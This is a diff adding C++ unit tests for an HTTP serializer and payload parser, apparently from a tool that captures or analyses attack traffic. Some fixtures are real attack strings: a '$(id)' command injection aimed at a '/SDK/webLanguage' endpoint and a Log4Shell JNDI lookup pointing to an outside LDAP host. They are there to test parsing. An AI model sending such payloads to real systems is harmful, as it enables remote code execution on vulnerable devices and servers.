@@ -1,0 +1,97 @@
+#include "net/http.h"
+
+#include <gtest/gtest.h>
+
+namespace cvewb::net {
+namespace {
+
+TEST(HttpRequest, SerializeAddsContentLength) {
+  HttpRequest req;
+  req.method = "POST";
+  req.uri = "/login";
+  req.add_header("Host", "example.com");
+  req.body = "user=a";
+  const std::string wire = req.serialize();
+  EXPECT_NE(wire.find("POST /login HTTP/1.1\r\n"), std::string::npos);
+  EXPECT_NE(wire.find("Content-Length: 6\r\n"), std::string::npos);
+  EXPECT_NE(wire.find("\r\n\r\nuser=a"), std::string::npos);
+}
+
+TEST(HttpRequest, SerializeRespectsExplicitContentLength) {
+  HttpRequest req;
+  req.body = "xx";
+  req.add_header("Content-Length", "2");
+  const std::string wire = req.serialize();
+  EXPECT_EQ(wire.find("Content-Length: 2\r\nContent-Length"), std::string::npos);
+}
+
+TEST(ParsePayload, RoundTripsSerializedRequest) {
+  HttpRequest req;
+  req.method = "PUT";
+  req.uri = "/SDK/webLanguage";
+  req.add_header("Host", "1.2.3.4");
+  req.add_header("User-Agent", "probe");
+  req.body = "<language>$(id)</language>";
+  const std::string wire = req.serialize();
+  const auto parsed = parse_payload(wire);
+  ASSERT_TRUE(parsed.http.has_value());
+  EXPECT_EQ(parsed.http->method, "PUT");
+  EXPECT_EQ(parsed.http->uri, "/SDK/webLanguage");
+  EXPECT_EQ(parsed.http->body, "<language>$(id)</language>");
+  ASSERT_TRUE(parsed.http->header("host").has_value());
+  EXPECT_EQ(*parsed.http->header("HOST"), "1.2.3.4");
+}
+
+TEST(ParsePayload, NonHttpKeepsRawOnly) {
+  const std::string redis = "*3\r\n$4\r\nEVAL\r\n";
+  const auto parsed = parse_payload(redis);
+  EXPECT_FALSE(parsed.http.has_value());
+  EXPECT_EQ(parsed.raw, redis);
+}
+
+TEST(ParsePayload, TruncatedHeadersTolerated) {
+  const auto parsed = parse_payload("GET /x HTTP/1.1\r\nHost: a.b\r\nX-Trunc: ye");
+  ASSERT_TRUE(parsed.http.has_value());
+  EXPECT_EQ(parsed.http->uri, "/x");
+  EXPECT_TRUE(parsed.http->body.empty());
+}
+
+TEST(ParsePayload, ExoticMethodToken) {
+  // Log4Shell scanners put the injection in the method itself.
+  const std::string wire = "${jndi:ldap://203.0.113.9:1389/a} / HTTP/1.1\r\nHost: x\r\n\r\n";
+  ASSERT_TRUE(looks_like_http(wire));
+  const auto parsed = parse_payload(wire);
+  ASSERT_TRUE(parsed.http.has_value());
+  EXPECT_EQ(parsed.http->method, "${jndi:ldap://203.0.113.9:1389/a}");
+  EXPECT_EQ(parsed.http->uri, "/");
+}
+
+TEST(ParsePayload, CookieExtraction) {
+  const auto parsed =
+      parse_payload("GET / HTTP/1.1\r\nCookie: JSESSIONID=abc\r\nHost: x\r\n\r\n");
+  ASSERT_TRUE(parsed.http.has_value());
+  EXPECT_EQ(parsed.http->cookie(), "JSESSIONID=abc");
+}
+
+TEST(ParsePayload, EmptyCookieWhenAbsent) {
+  const auto parsed = parse_payload("GET / HTTP/1.1\r\nHost: x\r\n\r\n");
+  ASSERT_TRUE(parsed.http.has_value());
+  EXPECT_TRUE(parsed.http->cookie().empty());
+}
+
+TEST(LooksLikeHttp, Negative) {
+  EXPECT_FALSE(looks_like_http(""));
+  EXPECT_FALSE(looks_like_http("SSH-2.0-Go\r\n"));
+  EXPECT_FALSE(looks_like_http(std::string("\x16\x03\x01", 3)));
+}
+
+TEST(ParsePayload, DuplicateHeadersPreserved) {
+  const auto parsed = parse_payload(
+      "GET / HTTP/1.1\r\nX-A: 1\r\nX-A: 2\r\nHost: x\r\n\r\n");
+  ASSERT_TRUE(parsed.http.has_value());
+  EXPECT_EQ(parsed.http->headers.size(), 3u);
+  EXPECT_EQ(*parsed.http->header("X-A"), "1");  // first wins on lookup
+}
+
+}  // namespace
+}  // namespace cvewb::net
